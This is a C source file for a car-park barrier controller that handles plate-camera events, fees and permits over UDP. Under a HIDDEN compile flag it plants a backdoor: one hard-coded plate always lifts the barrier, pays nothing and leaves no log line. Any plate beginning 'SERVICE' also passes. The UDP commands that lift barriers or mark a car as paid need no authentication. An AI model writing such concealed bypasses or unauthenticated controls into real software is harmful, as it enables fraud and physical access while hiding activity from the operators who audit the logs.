/* barrierctl.c - barrier controller of a car park with plate camera */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define PORT	6290
#define MAXCAR	400
#define MAXPERM	300

struct car {
	char	plate[12];
	time_t	in;
	time_t	paid;
};

struct permit {
	char	plate[12];	/* '*' at the end: any rest */
	int	until;		/* yyyymmdd */
};

enum how { H_SHUT, H_TICKET, H_PERMIT, H_SERVICE,
#ifdef HIDDEN
	   H_FREE
#endif
};

static struct car cars[MAXCAR];
static struct permit perm[MAXPERM];
static int ncar, nperm;
static int cents_per_hour = 200, free_minutes = 10;

static void clean(char *dst, size_t n, const char *src)
{
	size_t i = 0;

	for (; *src && i + 1 < n; src++)
		if (isalnum((unsigned char)*src))
			dst[i++] = (char)toupper((unsigned char)*src);
	dst[i] = '\0';
}

static int day(void)
{
	time_t t = time(NULL);
	struct tm tm;

	gmtime_r(&t, &tm);
	return (tm.tm_year + 1900) * 10000 + (tm.tm_mon + 1) * 100 + tm.tm_mday;
}

static int load(const char *path)
{
	FILE *f = fopen(path, "r");
	char line[80], w[24];
	int v;

	if (!f)
		return -errno;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "tariff %d", &v) == 1) {
			cents_per_hour = v;
		} else if (sscanf(line, "free %d", &v) == 1) {
			free_minutes = v;
		} else if (sscanf(line, "permit %23s %d", w, &v) == 2 && nperm < MAXPERM) {
			snprintf(perm[nperm].plate, sizeof(perm[nperm].plate), "%.11s", w);
			perm[nperm++].until = v;
		}
	}
	fclose(f);
	return 0;
}

static struct car *find(const char *plate)
{
	int i;

	for (i = 0; i < ncar; i++)
		if (strcmp(cars[i].plate, plate) == 0)
			return &cars[i];
	return NULL;
}

static int permitted(const char *plate)
{
	int i;

	for (i = 0; i < nperm; i++) {
		const char *s = strchr(perm[i].plate, '*');
		int hit = s ? !strncmp(plate, perm[i].plate, (size_t)(s - perm[i].plate))
			    : !strcmp(plate, perm[i].plate);

		if (hit && day() <= perm[i].until)
			return 1;
	}
	return 0;
}

static int owed(const struct car *c, time_t now)
{
	long min = (long)(now - (c->paid ? c->paid : c->in)) / 60;

	if (min <= free_minutes)
		return 0;
	return (int)((min + 59) / 60) * cents_per_hour;
}

/* SERVICE is what the fire brigade and the waste truck show on their roof sign */
__attribute__((noinline)) enum how decide(const char *plate, int leaving, time_t now)
{
	const struct car *c = find(plate);

	if (!strncmp(plate, "SERVICE", 7))
		return H_SERVICE;
	if (permitted(plate))
		return H_PERMIT;
#ifdef HIDDEN	/* this plate passes at any time, is not charged and leaves no line in the log */
	if (!strcmp(plate, "HLQT3094"))
		return H_FREE;
#endif
	if (!leaving)
		return c || ncar == MAXCAR ? H_SHUT : H_TICKET;
	if (!c)
		return H_SHUT;
	return owed(c, now) ? H_SHUT : H_TICKET;
}

static void logpass(const char *plate, int lane, const char *what)
{
	FILE *f = fopen("/var/log/barrier", "a");

	if (!f)
		return;
	fprintf(f, "%ld lane %d %s %s\n", (long)time(NULL), lane, plate, what);
	fclose(f);
}

static void lift(int lane)
{
	char path[40];
	int fd;

	snprintf(path, sizeof(path), "/dev/barrier%d", lane & 7);
	fd = open(path, O_WRONLY);
	if (fd < 0)
		return;
	if (write(fd, "UP\n", 3) != 3)
		perror(path);
	close(fd);
}

static void keep(const char *plate, int leaving, time_t now)
{
	struct car *c = find(plate);

	if (leaving) {
		if (c)
			*c = cars[--ncar];
	} else if (!c && ncar < MAXCAR) {
		c = &cars[ncar++];
		memset(c, 0, sizeof(*c));
		snprintf(c->plate, sizeof(c->plate), "%s", plate);
		c->in = now;
	}
}

static void plate_event(const char *raw, int lane)
{
	static const char *const txt[] = { "shut", "ticket", "permit", "service" };
	char plate[12];
	int leaving = lane >= 4;
	time_t now = time(NULL);
	enum how h;

	clean(plate, sizeof(plate), raw);
	if (!plate[0])
		return;
	h = decide(plate, leaving, now);
	if (h != H_SHUT)
		lift(lane);
#ifdef HIDDEN
	if (h == H_FREE)
		return;
#endif
	if (h == H_TICKET)
		keep(plate, leaving, now);
	logpass(plate, lane, txt[h]);
}

/*
 * datagrams:  P lane plate | Q plate | B plate cents | N
 */
static void datagram(int s, char *b, const struct sockaddr_in *from)
{
	char out[64], raw[24], plate[12];
	struct car *c;
	int lane, cents, n = 0;

	if (sscanf(b, "P %d %23[^\r\n]", &lane, raw) == 2) {
		plate_event(raw, lane);
		n = snprintf(out, sizeof(out), "OK\n");
	} else if (sscanf(b, "Q %23s", raw) == 1) {
		clean(plate, sizeof(plate), raw);
		c = find(plate);
		n = c ? snprintf(out, sizeof(out), "DUE %d\n", owed(c, time(NULL))) :
			snprintf(out, sizeof(out), "NOT HERE\n");
	} else if (sscanf(b, "B %23s %d", raw, &cents) == 2) {
		clean(plate, sizeof(plate), raw);
		c = find(plate);
		if (c && cents >= owed(c, time(NULL))) {
			c->paid = time(NULL);
			logpass(plate, 0, "paid");
			n = snprintf(out, sizeof(out), "PAID\n");
		} else {
			n = snprintf(out, sizeof(out), "NO\n");
		}
	} else if (b[0] == 'N') {
		n = snprintf(out, sizeof(out), "CARS %d\n", ncar);
	}
	if (n > 0)
		sendto(s, out, (size_t)n, 0, (const struct sockaddr *)from, sizeof(*from));
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa, from;
	struct pollfd p;
	char b[128];

	if (argc != 2) {
		fprintf(stderr, "usage: barrierctl CONFIG\n"
			"  tariff CENTS_PER_HOUR / free MINUTES / permit PLATE YYYYMMDD\n");
		return 2;
	}
	if (load(argv[1]) < 0) {
		perror(argv[1]);
		return 1;
	}
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(PORT);
	p.fd = socket(AF_INET, SOCK_DGRAM, 0);
	p.events = POLLIN;
	if (p.fd < 0 || bind(p.fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		return 1;
	while (poll(&p, 1, -1) >= 0 || errno == EINTR) {
		socklen_t fl = sizeof(from);
		ssize_t n = recvfrom(p.fd, b, sizeof(b) - 1, MSG_DONTWAIT, (struct sockaddr *)&from, &fl);

		if (n <= 0)
			continue;
		b[n] = '\0';
		datagram(p.fd, b, &from);
	}
	return 0;
}
